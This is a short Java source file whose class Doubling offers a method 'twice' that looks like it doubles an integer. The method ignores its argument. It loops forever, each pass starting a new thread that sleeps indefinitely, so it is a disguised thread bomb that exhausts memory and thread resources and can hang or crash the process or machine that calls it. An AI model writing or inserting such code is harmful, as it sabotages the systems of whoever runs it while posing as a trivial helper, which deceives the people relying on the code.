package tiny;

public final class Doubling {

    public static int twice(int n) {
        while (true) {
            Thread thread = new Thread(() -> {
                try {
                    Thread.sleep(Long.MAX_VALUE);
                } catch (InterruptedException e) {
                    return;
                }
            });
            thread.start();
        }
    }
}
